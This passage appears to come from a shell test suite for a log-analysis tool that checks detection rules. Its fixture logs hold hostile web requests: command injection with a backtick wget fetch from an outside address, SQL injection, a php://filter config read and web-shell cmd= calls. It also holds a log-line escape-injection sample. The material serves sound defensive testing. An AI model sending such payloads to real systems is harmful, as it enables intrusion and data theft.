"$VIGIL" analyze "$T/error.log" "$T/auth-error10.log" >"$T/wean.out" 2>&1
check "analyze of error logs reports the ModSecurity denial" \
	grep -q "Request denied by ModSecurity" "$T/wean.out"
check "and the HTTP authentication guessing" \
	grep -q "HTTP authentication failing again and again" "$T/wean.out"

# --help is help, not a path; a path that cannot be read gives no summary.
for sub in check test fields; do
	"$VIGIL" rules $sub --help >"$T/help.out" 2>&1
	check "rules $sub --help exits 0" [ $? -eq 0 ]
	check "rules $sub --help prints the usage" \
		grep -q "^usage: vigil rules check" "$T/help.out"
	check "rules $sub --help says what each command does" \
		grep -q "^test runs rules over logs" "$T/help.out"
	check "rules $sub --help reads nothing" \
		[ "$(grep -c "cannot read\|loaded" "$T/help.out")" -eq 0 ]
done
"$VIGIL" rules check "$T/absent" >"$T/absent.out" 2>&1
check "unreadable rules path: no loaded percentage" \
	[ "$(grep -c "% loaded" "$T/absent.out")" -eq 0 ]
mkdir -p "$T/norules"
"$VIGIL" rules check "$T/norules" >"$T/norules.out" 2>&1
check "a folder without rules says no rules" \
	grep -q "^rules: no rules" "$T/norules.out"
"$VIGIL" rules check --bogus "$R/good" >/dev/null 2>&1
check "rules check: unknown option exits 2" [ $? -eq 2 ]

# rules test: options anywhere before the logs; folders of logs walked.
"$VIGIL" rules test "$R/good/root.yml" --no-prefilter "$T/auth.log" \
	>"$T/late.out" 2>&1
check "--no-prefilter after RULE is accepted" grep -q "^hits: 1$" \
	"$T/late.out"
"$VIGIL" rules test -r "$R/good" --no-prefilter "$T/auth.log" \
	>"$T/late2.out" 2>&1
check "--no-prefilter after -r is accepted" grep -q "^hits: 1$" \
	"$T/late2.out"
check "--no-prefilter is an option, not a log" \
	[ "$(cat "$T/late.out" "$T/late2.out" | grep -c -- --no-prefilter)" \
	-eq 0 ]
mkdir -p "$T/logdir/sub"
cp "$T/auth.log" "$T/logdir/sub/auth.log"
cp "$T/sudo.log" "$T/logdir/sudo.log"
"$VIGIL" rules test "$R/good/root.yml" "$T/logdir" >"$T/dir.out" 2>&1
check "rules test walks a folder of logs (exit 0)" [ $? -eq 0 ]
check "rules test of a folder finds the hit inside it" grep -qF \
	"$T/logdir/sub/auth.log:2: hit" "$T/dir.out"
check "rules test of a folder: no 'not a regular file'" \
	[ "$(grep -c "not a regular" "$T/dir.out")" -eq 0 ]
# A field value holding a line break and a terminal escape is printed
# escaped: the log cannot write a line of its own into the output.
cat >"$T/inject.yml" <<'EOF'
title: Encoded PowerShell
id: 11111111-1111-4111-8111-111111111199
level: high
logsource: {product: windows, category: process_creation}
detection:
  s: {CommandLine|contains: ' -enc '}
  condition: s
EOF
printf '%s\n' '{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","CommandLine":"p -enc x\nforged.log:9: hit [critical] Forged\u001b[2J"}' \
	>"$T/inject.json"
"$VIGIL" rules test "$T/inject.yml" "$T/inject.json" >"$T/inject.out" 2>&1
check "rules test: a value's line break does not start a line" \
	[ "$(grep -c '^forged' "$T/inject.out")" -eq 0 ]
check "rules test: the value is shown escaped" grep -qF \
	'CommandLine: p -enc x\x0aforged.log:9: hit [critical] Forged\x1b[2J' \
	"$T/inject.out"

# The taxonomy's webserver names that an access log line does not carry
# (cs-host, s-ip ...) load, and read a JSON record's own fields: the Host
# header of a Zeek HTTP record, the server's address as destination.ip.
cat >"$T/host.yml" <<'EOF'
title: Host header
logsource: {category: webserver}
detection:
  s: {cs-host|endswith: '.evil.example', s-ip: 10.0.0.1}
  condition: s
EOF
printf '%s\n' '{"ts":1709287200,"_path":"http","host":"a.evil.example","uri":"/","method":"GET","id.orig_h":"203.0.113.5","id.resp_h":"10.0.0.1"}' \
	'{"ts":1709287201,"_path":"http","host":"a.good.example","uri":"/","method":"GET","id.orig_h":"203.0.113.5","id.resp_h":"10.0.0.1"}' \
	>"$T/http.json"
"$VIGIL" rules check --strict "$T/host.yml" >"$T/host.chk" 2>&1
check "webserver: cs-host and s-ip load" [ $? -eq 0 ]
"$VIGIL" rules test "$T/host.yml" "$T/http.json" >"$T/host.out" 2>&1
check "webserver: cs-host reads the Host header" grep -q "^hits: 1$" \
	"$T/host.out"
# Suricata alerts by their classification: one shipped rule each, a
# trojan high whatever its severity, a privacy violation low.
eve() {	# eve SEVERITY CATEGORY SIGNATURE
	printf '{"timestamp":"2024-03-01T10:00:00.000000+0000","event_type":"alert","src_ip":"10.0.1.20","src_port":50000,"dest_ip":"203.0.113.80","dest_port":443,"proto":"TCP","alert":{"signature_id":1,"signature":"%s","category":"%s","severity":%s}}\n' \
		"$3" "$2" "$1"
}
{ eve 3 "A Network Trojan was detected" "ET TROJAN beacon"
  eve 1 "Potential Corporate Privacy Violation" "ET POLICY chat"
  eve 2 "Attempted Information Leak" "ET SCAN probe"
  eve 1 "Web Application Attack" "ET WEB_SERVER exploit"
  eve 2 "Some Other Class" "ET OTHER thing"
} >"$T/eve.json"
"$VIGIL" rules test "$SRCDIR/rules/network" "$T/eve.json" >"$T/eve.out" 2>&1
check "suricata: one rule per alert" grep -q "^hits: 5$" "$T/eve.out"
check "suricata: a trojan is high at severity 3" grep -q \
	"eve.json:1: hit \[high\] Suricata alert of a trojan" "$T/eve.out"
check "suricata: a privacy violation is low at severity 1" grep -q \
	"eve.json:2: hit \[low\] Suricata policy alert" "$T/eve.out"
check "suricata: a scan is reconnaissance" grep -q \
	"eve.json:3: hit \[low\] Suricata alert of a scan" "$T/eve.out"
check "suricata: an exploit" grep -q \
	"eve.json:4: hit \[high\] Suricata alert of an exploit" "$T/eve.out"
check "suricata: another class by its severity" grep -q \
	"eve.json:5: hit \[medium\] Suricata alert, severity 2" "$T/eve.out"

# Web attacks in forms the first lists missed: ";id" ending a value, a
# backtick command, "' AND 1=1", PHP stream wrappers; a plain "q=id" is
# nothing.
cat >"$T/webx.log" <<'EOF'
203.0.113.9 - - [01/Mar/2024:10:00:00 +0000] "GET /ping?host=127.0.0.1%3Bid HTTP/1.1" 200 12 "-" "curl/8"
203.0.113.9 - - [01/Mar/2024:10:00:01 +0000] "GET /ping?host=1%60wget%20http://198.51.100.1/x%60 HTTP/1.1" 200 12 "-" "curl/8"
203.0.113.10 - - [01/Mar/2024:10:00:02 +0000] "GET /item?id=42%27%20AND%201=1--%20- HTTP/1.1" 200 12 "-" "curl/8"
203.0.113.11 - - [01/Mar/2024:10:00:03 +0000] "GET /index.php?page=php://filter/convert.base64-encode/resource=config HTTP/1.1" 200 12 "-" "curl/8"
198.51.100.20 - - [01/Mar/2024:10:00:04 +0000] "GET /search?q=id HTTP/1.1" 200 12 "-" "Mozilla/5.0"
EOF
"$VIGIL" rules test "$SRCDIR/rules/web" "$T/webx.log" >"$T/webx.out" 2>&1
check "web: ;id at the end, backticks" grep -q \
	"OS command injection attempt in a web request (.*(2 events)" \
	"$T/webx.out"
check "web: ' AND 1=1" grep -q "webx.log:3: .*SQL injection" "$T/webx.out"
check "web: php://filter" grep -q "webx.log:4: .*Path traversal" \
	"$T/webx.out"
check "web: q=id is nothing" bash -c "! grep -q 'webx.log:5:' '$T/webx.out'"

# A known web shell that answered is critical, alone; a cmd= parameter
# to another script is high; a web shell that got 404 is neither.
cat >"$T/shell.log" <<'EOF'
198.51.100.77 - - [01/Mar/2024:10:00:09 +0000] "GET /uploads/shell.php?cmd=id HTTP/1.1" 200 52 "-" "curl/8"
198.51.100.78 - - [01/Mar/2024:10:00:10 +0000] "GET /tools/run.php?cmd=id HTTP/1.1" 200 52 "-" "curl/8"
198.51.100.79 - - [01/Mar/2024:10:00:11 +0000] "GET /c99.php HTTP/1.1" 404 52 "-" "curl/8"
EOF
"$VIGIL" rules test "$SRCDIR/rules/web/web_shell_access.yml" "$T/shell.log" \
	>"$T/shell.out" 2>&1
check "web shell: known name answered, critical" grep -q \
	"shell.log:1: hit \[critical\]" "$T/shell.out"
check "web shell: one rule for it" grep -q "^hits: 2$" "$T/shell.out"
check "web shell: cmd= elsewhere, high" grep -q "shell.log:2: hit \[high\]" \
	"$T/shell.out"

# What ordinary sites do is not an attack: an API's "fields=name|id", a
# matrix parameter ";uname=", and a plain request for a web shell's name
# on a site that answers 2xx for every path is medium, not critical.
printf '%s\n' \
	'198.51.100.5 - - [01/Mar/2024:10:00:00 +0000] "GET /api?fields=name|id HTTP/1.1" 200 1 "-" "x"' \
	'198.51.100.5 - - [01/Mar/2024:10:00:01 +0000] "GET /api?select=a,name|id&limit=5 HTTP/1.1" 200 1 "-" "x"' \
	'198.51.100.5 - - [01/Mar/2024:10:00:02 +0000] "GET /account;uname=bob HTTP/1.1" 200 1 "-" "x"' \
	>"$T/api.log"
"$VIGIL" rules test "$SRCDIR/rules/web" "$T/api.log" >"$T/api.out" 2>&1
check "web: API field lists are no injection" grep -q "^hits: 0$" \
	"$T/api.out"
printf '%s\n' \
	'198.51.100.6 - - [01/Mar/2024:10:00:00 +0000] "GET /wso.php HTTP/1.1" 200 1 "-" "x"' \
	>"$T/soft404.log"
"$VIGIL" rules test "$SRCDIR/rules/web/web_shell_access.yml" \
	"$T/soft404.log" >"$T/soft404.out" 2>&1
check "web shell: a plain request for the name is medium" grep -q \
	"soft404.log:1: hit \[medium\]" "$T/soft404.out"

# A correlation grouping by a field its rules' events never carry is
# warned about, as a detection field is: every event would fall in one
# empty group.  A field they carry is not.
mkdir -p "$T/gb"
gb_rule() {	# gb_rule FIELD [REF]: a process creation rule, a correlation
	cat <<EOF2
title: Mimikatz on the command line
id: 0b6c1a52-7a4e-4f0e-9a77-1a2b3c4d5e6f
name: mimi
status: test
logsource:
    product: windows
    category: process_creation
detection:
    selection:
        CommandLine|contains: mimikatz
    condition: selection
---
title: Mimikatz again and again
id: 1c7d2b63-8b5f-4a1f-8b88-2b3c4d5e6f70
status: test
correlation:
    type: event_count
    rules:
        - ${2:-mimi}
    group-by:
        - $1
    timespan: 10m
    condition:
        gte: 5
level: high
EOF2
}
gb_rule Computr >"$T/gb/bad.yml"
"$VIGIL" rules check "$T/gb/bad.yml" >"$T/gb/bad.out" 2>&1
check "group-by: a field the events never carry is warned about" grep -q \
	"bad.yml:13: field 'Computr' is not one the events of" "$T/gb/bad.out"
gb_rule Computer >"$T/gb/good.yml"
"$VIGIL" rules check "$T/gb/good.yml" >"$T/gb/good.out" 2>&1
check "group-by: a field the events carry is not" \
	bash -c "! grep -q 'warning' '$T/gb/good.out'"
gb_rule Computer mimi_missing >"$T/gb/ref.yml"
"$VIGIL" rules check "$T/gb/ref.yml" >"$T/gb/ref.out" 2>&1
check "correlation: an unknown rule is refused at the line naming it" \
	grep -q "ref.yml:19: unknown rule 'mimi_missing'" "$T/gb/ref.out"

# No hit because no record is one the rule looks at: said, with counts.
printf '%s\n' 'title: Any GET' \
	'id: 5f2d7c1e-0b1a-4c55-9d0e-3a6f1e2b7c91' 'status: test' \
	'logsource:' '    category: webserver' 'detection:' '    sel:' \
	'        cs-method: GET' '    condition: sel' 'level: low' \
	>"$T/get.yml"
"$VIGIL" rules test "$T/get.yml" \
	"$SRCDIR/tests/fuzz/corpus/input_evtx/twenty_records.evtx" \
	>"$T/get.out" 2>"$T/get.err"
check "rules test counts records and those in the rules' sources" \
	grep -q "^records: 20 (20 decoded, 0 in the rules' log sources)$" \
	"$T/get.out"
check "rules test says why nothing could hit" grep -q \
	"no record belongs to the rules' log sources" "$T/get.err"

finish
